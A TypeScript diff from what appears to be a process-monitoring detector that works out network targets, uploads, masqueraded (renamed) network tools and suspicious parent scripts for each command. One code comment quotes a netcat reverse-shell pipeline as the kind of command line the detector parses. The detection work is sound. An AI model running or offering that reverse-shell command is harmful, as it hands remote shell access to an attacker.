@@ -1,15 +1,31 @@
 /**
  * What one invocation's arguments and command line say, for the indicators: where its traffic goes,
  * which files it writes and sends (the tool family's declaration, then redirections and the pipeline),
- * kubelet API calls, and which of its ancestors are known service scripts.
+ * kubelet API calls, which of its ancestors are known service scripts — and the {@link Reading} that
+ * computes each of these once per candidate, on first use.
  */
 import type { ExecEvent, Utility } from "../model.js";
-import { ancestorList, type Candidate, text } from "./candidates.js";
+import {
+  ancestorList,
+  type Candidate,
+  sameCommandInAncestors,
+  text,
+  writtenInAncestors,
+} from "./candidates.js";
 import { executableName } from "./catalogue.js";
-import { type CommandSegment, commandStart } from "./command-line.js";
-import { fedTexts, pipedOutputs, relayedFile } from "./feeds.js";
-import type { ParsedArgs } from "./options.js";
-import { familyOf, type Targets } from "./utilities/index.js";
+import { type CommandSegment, commandStart, commandWords } from "./command-line.js";
+import {
+  type AncestorContext,
+  type Executions,
+  type ExecutionsCache,
+  executionsOf,
+  fedTexts,
+  pipedOutputs,
+  relayedFile,
+} from "./feeds.js";
+import { suspiciousLocation } from "./locations.js";
+import { MAX_ARGS, type ParsedArgs, parseArgs } from "./options.js";
+import { familyOf, specFor, type Targets } from "./utilities/index.js";
 import { netcat } from "./utilities/netcat.js";
 import { hostsOf, NOT_FILES, quote } from "./utilities/words.js";
 
@@ -186,4 +202,131 @@ export function uploads(
   const declared = family?.uploads?.(name, parsed, fedTexts(segment));
   if (declared !== undefined) return declared;
   return utility.category === "relay" ? relayedFile(name, segment) : undefined;
+}
+
+/** One candidate as the rows see it: what is read once and shared between rows, computed on demand. */
+export interface Subject {
+  candidate: Candidate;
+  event: ExecEvent;
+  context: AncestorContext;
+  name: string;
+  args: string[];
+  parsed: ParsedArgs;
+  /** The candidate's own command, or the ancestor's command that started this very process. */
+  segment(): CommandSegment | undefined;
+  outputs(): Output[];
+  targets(): Targets;
+  /** The same tool's commands in the ancestors' command lines, as written before expansion. */
+  written(): CommandSegment[];
+  writtenArgs(): ParsedArgs[];
+  executions(): Executions;
+  /** The rename reason (MITRE T1036.003), high or medium, when the utility ran under another name. */
+  renamed(): { severity: "high" | "medium"; reason: string } | undefined;
+  /** Each ancestor (payload shells first) in a suspicious place, and the service script it is, if known. */
+  placedAncestors(): { where: string; index: number; words: string; known?: string }[];
+}
+
+/** A {@link Subject} whose shared readings are computed on first use, once per candidate. */
+export class Reading implements Subject {
+  readonly name: string;
+  readonly args: string[];
+  readonly parsed: ParsedArgs;
+  #segment?: { value: CommandSegment | undefined };
+  #written?: CommandSegment[];
+  #outputs?: Output[];
+  #targets?: Targets;
+  #writtenArgs?: ParsedArgs[];
+  #executions?: Executions;
+  #renamed?: { value: { severity: "high" | "medium"; reason: string } | undefined };
+  #placed?: { where: string; index: number; words: string; known?: string }[];
+
+  constructor(
+    readonly candidate: Candidate,
+    readonly event: ExecEvent,
+    readonly context: AncestorContext,
+    private readonly executionsCache: ExecutionsCache,
+  ) {
+    this.name = candidate.utility.name;
+    this.args = candidate.words.slice(1, MAX_ARGS + 1);
+    this.parsed = parseArgs(this.args, specFor(this.name));
+  }
+
+  segment(): CommandSegment | undefined {
+    // A process event's own argv lacks redirections and pipes; the ancestor's command line that started
+    // this very command (`sh -c 'cat /tmp/f | sh -i 2>&1 | nc x 4444 > /tmp/f'`) has them.
+    this.#segment ??= {
+      value: this.candidate.segment ?? sameCommandInAncestors(this.candidate, this.context),
+    };
+    return this.#segment.value;
+  }
+
+  written(): CommandSegment[] {
+    this.#written ??=
+      this.candidate.segment === undefined ? writtenInAncestors(this.candidate, this.context) : [];
+    return this.#written;
+  }
+
+  outputs(): Output[] {
+    this.#outputs ??= downloadOutputs(this.name, this.parsed, this.segment());
+    return this.#outputs;
+  }
+
+  targets(): Targets {
+    this.#targets ??= targetsOf(this.name, this.parsed);
+    return this.#targets;
+  }
+
+  writtenArgs(): ParsedArgs[] {
+    this.#writtenArgs ??= this.written().map((s) =>
+      parseArgs(commandWords(s.argv).slice(1, MAX_ARGS + 1), specFor(this.name)),
+    );
+    return this.#writtenArgs;
+  }
+
+  executions(): Executions {
+    if (this.#executions !== undefined) return this.#executions;
+    const { candidate, context, executionsCache } = this;
+    let executions = executionsCache.get(candidate.segments);
+    if (executions === undefined) {
+      executions = executionsOf([...(candidate.segments ?? []), ...context.segments]);
+      executionsCache.set(candidate.segments, executions);
+    }
+    this.#executions = executions;
+    return executions;
+  }
+
+  renamed(): { severity: "high" | "medium"; reason: string } | undefined {
+    if (this.#renamed !== undefined) return this.#renamed.value;
+    const { candidate, name } = this;
+    const renamed = candidate.renamed;
+    let value: { severity: "high" | "medium"; reason: string } | undefined;
+    if (renamed !== undefined) {
+      // Masquerading: a network tool copied or linked under a harmless-looking name.
+      const where =
+        candidate.path === undefined ? undefined : suspiciousLocation(candidate.path, candidate.cwd);
+      const shape = renamed.by === "name" ? "" : `, going by its arguments (${quote(renamed.by)})`;
+      value = {
+        severity: renamed.by === "name" || where !== undefined ? "high" : "medium",
+        reason: `${name} renamed to ${quote(renamed.as)}${shape}`,
+      };
+    }
+    this.#renamed = { value };
+    return value;
+  }
+
+  placedAncestors(): { where: string; index: number; words: string; known?: string }[] {
+    if (this.#placed !== undefined) return this.#placed;
+    const lineage = lineageOf(this.candidate, this.event);
+    const out: { where: string; index: number; words: string; known?: string }[] = [];
+    lineage.forEach((ancestor, index) => {
+      const where = ancestor.path ?? ancestor.name;
+      if (where === undefined) return;
+      const location = suspiciousLocation(where);
+      if (location === undefined) return;
+      const known = knownServiceScript(where, lineage.slice(index + 1), this.name, this.args);
+      out.push({ where, index, words: location.words, ...(known !== undefined ? { known } : {}) });
+    });
+    this.#placed = out;
+    return out;
+  }
 }
